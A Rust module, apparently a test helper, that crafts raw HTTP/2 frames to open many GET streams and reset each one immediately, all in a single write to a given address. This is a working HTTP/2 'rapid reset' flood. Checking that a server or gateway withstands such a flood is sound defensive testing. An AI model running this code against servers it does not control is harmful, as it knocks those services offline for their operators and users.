//! Streams that are reset as soon as they are opened, byte for byte.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};

use anyhow::Result;

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;
const CANCEL: [u8; 4] = 8u32.to_be_bytes();

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, length @ ..] = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header field that is in no table.
fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).expect("a short text")], text.as_bytes()].concat();
    [vec![0], text(name), text(value)].concat()
}

/// Opens so many streams with a GET of `path` and resets each, all in one write. The connection is
/// open until it is dropped.
///
/// # Errors
/// Nobody listens there.
pub fn reset(gate: SocketAddr, path: &str, streams: u32) -> Result<TcpStream> {
    let fields = [(":method", "GET"), (":scheme", "http"), (":authority", "a.example"), (":path", path)];
    let block: Vec<u8> = fields.iter().flat_map(|(name, value)| field(name, value)).collect();
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    for number in 0..streams {
        let stream = 2 * number + 1;
        bytes.extend(frame(HEADERS, WHOLE, stream, &block));
        bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
    }
    let mut connection = TcpStream::connect(gate)?;
    connection.write_all(&bytes)?;
    Ok(connection)
}
